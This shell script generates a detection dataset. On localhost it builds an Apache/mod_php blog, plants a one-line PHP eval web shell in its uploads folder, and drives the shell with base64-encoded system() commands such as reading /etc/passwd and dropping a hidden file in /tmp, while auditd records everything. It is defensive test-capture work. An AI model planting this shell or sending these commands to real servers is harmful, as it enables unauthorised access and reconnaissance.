#!/bin/sh
# SPDX-License-Identifier: ISC
# Capture samples/apache-modphp: Apache 2.4 with the prefork MPM and
# mod_php, a POST eval shell driven among ordinary traffic, with a real
# auditd on this machine.
#
#   sh tools/capture/apache-modphp.sh [OUTDIR]   (as root; default samples/apache-modphp)
#
# What it sets up, under a temporary directory and torn down after:
# - auditd with its own configuration: ENRICHED format, node=web05,
#   execve/execveat rules for both arches;
# - Apache (prefork, mod_php 8.2, as www-data) on 127.0.0.1:8090 in the
#   -03:00 zone, Debian's combined LogFormat (%t: when the request was
#   received), serving /srv/www/blog: a blog (index.php, post.php, a
#   comment form taking POSTs) and, in its uploads, cache.php:
#   <?php @eval($_POST['z']);
# - clients 127.0.0.10 to 127.0.0.21 browsing and commenting, about 15
#   requests a second, while 127.0.0.66 sends PHP code to cache.php
#   the way web-shell managers do: an info request that runs nothing,
#   then system() calls carrying commands in base64.
# truth.tsv: for each request that ran a command, the time curl
# started, the client, the method, the path and the exact command.
#
# Needs: auditd, apache2, libapache2-mod-php8.2, curl.  Removes only the
# audit rules it added; refuses to run when auditd is already running.
set -eu

OUT=$(realpath -m "${1:-$(dirname "$0")/../../samples/apache-modphp}")
NODE=web05
FORMAT=ENRICHED
WEB=/srv/www/blog
PORT=8090
BASE="http://127.0.0.1:$PORT"
SHELL_PATH=/wp-content/uploads/2026/11/cache.php
. "$(dirname "$0")/lib.sh"

cap_start
mkdir -p "$T/apache2" "$WEB${SHELL_PATH%/*}"

# --- the web application -------------------------------------------------
cat > "$WEB/index.php" <<'PHP'
<?php
echo "<h1>A blog</h1>\n";
for ($i = 1; $i <= 5; $i++)
	echo "<a href=\"/post.php?id=$i\">Post $i</a>\n";
PHP
cat > "$WEB/post.php" <<'PHP'
<?php
$id = (int)($_GET['id'] ?? 1);
echo "<h2>Post $id</h2><form method=post action=/comment.php>";
PHP
cat > "$WEB/comment.php" <<'PHP'
<?php
$c = substr($_POST['comment'] ?? '', 0, 200);
echo "Thanks for: " . htmlspecialchars($c) . "\n";
PHP
printf 'body { font-family: serif; }\n' > "$WEB/style.css"
cat > "$WEB$SHELL_PATH" <<'PHP'
<?php @eval($_POST['z']);
PHP
chown -R www-data:www-data "$WEB"

# --- Apache -----------------------------------------------------------------
M=/usr/lib/apache2/modules
cat > "$T/apache2.conf" <<EOF
ServerRoot /etc/apache2
ServerName blog.test
DefaultRuntimeDir $T
PidFile $T/apache.pid
Mutex file:$T default
Listen 127.0.0.1:$PORT
User www-data
Group www-data
LoadModule mpm_prefork_module $M/mod_mpm_prefork.so
LoadModule authz_core_module $M/mod_authz_core.so
LoadModule dir_module $M/mod_dir.so
LoadModule mime_module $M/mod_mime.so
LoadModule php_module $M/libphp8.2.so
TypesConfig /etc/mime.types
StartServers 3
MinSpareServers 2
MaxSpareServers 6
MaxRequestWorkers 12
MaxConnectionsPerChild 60
ErrorLog $T/apache2/error.log
LogLevel info
LogFormat "%h %l %u %t \"%r\" %>s %O \"%{Referer}i\" \"%{User-Agent}i\"" combined
CustomLog $T/apache2/access.log combined
DocumentRoot $WEB
DirectoryIndex index.php
<Directory $WEB>
	Require all granted
</Directory>
<FilesMatch "\.php\$">
	SetHandler application/x-httpd-php
</FilesMatch>
EOF
TZ=America/Sao_Paulo apache2 -f "$T/apache2.conf" -k start
cap_server apache
sleep 2

# --- traffic ----------------------------------------------------------------
b64() { printf '%s' "$1" | base64 -w0; }
AUA="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0"
zpost() {	# PHP code for the shell
	curl -s -o /dev/null --interface 127.0.0.66 -A "$AUA" \
	    --data-urlencode "z=$1" "$BASE$SHELL_PATH" || true
}
run() {		# COMMAND
	truth 127.0.0.66 POST "$SHELL_PATH" "$1"
	zpost "system(base64_decode('$(b64 "$1")'));"
	sleep 1
}

for k in 1 2 3; do
	cap_traffic 110 $((7 + 4 * k)) $((10 + 4 * k)) "$BASE/" \
	    "$BASE/post.php?id=$k" "$BASE/style.css" "POST $BASE/comment.php" \
	    "$BASE/index.php"
done
sleep 2
zpost "echo phpversion(), PHP_OS, getcwd();"	# runs nothing
sleep 1
run "id"
run "uname -a"
run "cat /etc/passwd | head -5"
zpost "print_r(scandir('/srv/www'));"		# a file action: nothing
sleep 1
run "ls -la $WEB"
run "sleep 3; whoami"
run "ps aux | grep -c apache2"
run "find $WEB -name '*.php' -newer $WEB/index.php"
run "echo 'PD9waHAgcGhwaW5mbygpOw==' | base64 -d > /tmp/.st_probe.php; rm -f /tmp/.st_probe.php"

# --- collect ----------------------------------------------------------------
cap_collect
mkdir -p "$OUT/apache2" "$OUT/www"
cp "$T/apache2/access.log" "$T/apache2/error.log" "$OUT/apache2/"
sed "s|$T|/var/log/capture|g" "$T/apache2.conf" > "$OUT/apache2/apache2.conf"
cp -r "$WEB/." "$OUT/www/"
cap_done
